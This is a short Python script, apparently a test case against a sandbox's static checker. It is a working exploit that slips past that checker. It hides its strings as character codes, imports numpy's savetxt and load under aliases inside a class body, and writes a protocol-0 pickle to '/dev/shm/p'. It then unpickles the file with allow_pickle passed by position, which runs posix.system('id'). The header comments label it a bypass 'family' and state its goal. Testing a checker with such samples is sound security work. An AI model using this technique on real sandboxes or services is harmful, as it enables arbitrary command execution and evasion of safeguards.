# source: sandexec README, "The static check", allow_pickle rule (np.load takes at most two positional arguments); protocol-0 pickle text (pyjail / pickle RCE write-ups)
# family: reader/writer under an import alias inside a class body - savetxt writes a text pickle, load(path, None, True) sets allow_pickle by position
# goal: writes /dev/shm/p (outside the allowed paths), then unpickles it: posix.system("id") runs
import numpy as np


class K:
    from numpy import savetxt as st
    from numpy import load as ld


def s(*cs):
    return "".join(chr(c) for c in cs)


p = s(47, 100, 101, 118, 47, 115, 104, 109, 47, 112)
lines = np.array([s(99, 112, 111, 115, 105, 120), s(115, 121, 115, 116, 101, 109), s(40, 83, 39, 105, 100, 39), s(116, 82, 46)])
K.st(p, lines, fmt="%s")
print(K.ld(p, None, True))
